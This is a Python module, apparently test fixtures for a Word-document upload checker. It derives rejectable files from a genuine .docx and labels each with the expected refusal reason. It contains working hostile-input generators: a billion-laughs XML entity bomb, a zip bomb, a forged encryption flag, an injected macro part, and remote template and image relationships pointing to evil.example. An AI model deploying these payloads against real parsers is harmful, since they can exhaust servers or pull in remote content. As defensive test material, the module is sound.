"""Files that look like a paper and are none that may be taken, made out of a real one."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

CONTENT_TYPES, RELATIONS = "[Content_Types].xml", "word/_rels/document.xml.rels"
DOCUMENT = "word/document.xml"
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_LAUGHTER = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{_LAUGHS}]>'


def changed(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return the zip file with one part changed, or added."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, old in (parts | {part: change(parts.get(part, b""))}).items():
            archive.writestr(name, old)
    return written.getvalue()


def _external(kind: str) -> Callable[[bytes], bytes]:
    namespace = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = (
        f'<Relationship Id="rX" Type="{namespace}/{kind}" Target="https://evil.example/t" TargetMode="External"/>'
    )
    return lambda old: old.replace(b"</Relationships>", relation.encode() + b"</Relationships>")


def _laughing(old: bytes) -> bytes:
    return _LAUGHTER.encode() + old.partition(b"?>")[2].replace(
        b"<w:body>", b"<w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", 1
    )


def _declaring_much(content: bytes) -> bytes:
    """Return the file with a gigabyte of nothing in it, packed small."""
    return changed(content, "word/media/bomb.bin", lambda _old: bytes(61 * 1024 * 1024))


def _encrypted_flag(content: bytes) -> bytes:
    """Return the file with every entry marked as encrypted (zip's general purpose bit 0)."""
    changed_bytes = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = changed_bytes.find(signature)
        while start >= 0:
            changed_bytes[start + offset] |= 1
            start = changed_bytes.find(signature, start + 4)
    return bytes(changed_bytes)


def nested(depth: int, text: str) -> Callable[[bytes], bytes]:
    """Return what puts tables within tables at the document's beginning, the text in each of them."""
    paragraph = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    tables = f"{opening}{paragraph}" * depth + f"{closing}" * depth
    return lambda old: old.replace(b"<w:body>", b"<w:body>" + tables.encode(), 1)


#: Each kind: what it is called, how it is made of a real paper, the problem's name.
REFUSED: tuple[tuple[str, Callable[[bytes], bytes], str], ...] = (
    ("a renamed PDF", lambda _content: b"%PDF-1.7\n" + bytes(200), "no_word"),
    ("nothing but a zip", lambda _content: changed(b"PK\x05\x06" + bytes(18), "a.txt", lambda _old: b"x"), "no_word"),
    ("cut short", lambda content: content[: len(content) // 2], "no_word"),
    ("an old .doc", lambda _content: _COMPOUND + "WordDocument".encode("utf-16-le"), "no_word"),
    ("a password", lambda _content: _COMPOUND + "EncryptedPackage".encode("utf-16-le"), "protected"),
    ("a zip's password", _encrypted_flag, "protected"),
    ("a zip bomb", _declaring_much, "too_big"),
    ("much text", lambda content: changed(content, DOCUMENT, nested(1, "a " * 310_000)), "too_big"),
    ("a large part", lambda content: changed(content, DOCUMENT, lambda old: old + b" " * (9 << 20)), "too_big"),
    ("a macro", lambda content: changed(content, "word/vbaProject.bin", lambda _old: b"x"), "active"),
    (
        "a .docm",
        lambda content: changed(
            content,
            CONTENT_TYPES,
            lambda old: old.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "active",
    ),
    ("a template from elsewhere", lambda content: changed(content, RELATIONS, _external("attachedTemplate")), "active"),
    ("a picture from elsewhere", lambda content: changed(content, RELATIONS, _external("image")), "active"),
    ("a billion laughs", lambda content: changed(content, DOCUMENT, _laughing), "no_word"),
    ("broken XML", lambda content: changed(content, DOCUMENT, lambda old: old[:-20]), "no_word"),
)


def linked(content: bytes) -> bytes:
    """Return the file with a link to a page, which may be in it."""
    return changed(content, RELATIONS, _external("hyperlink"))
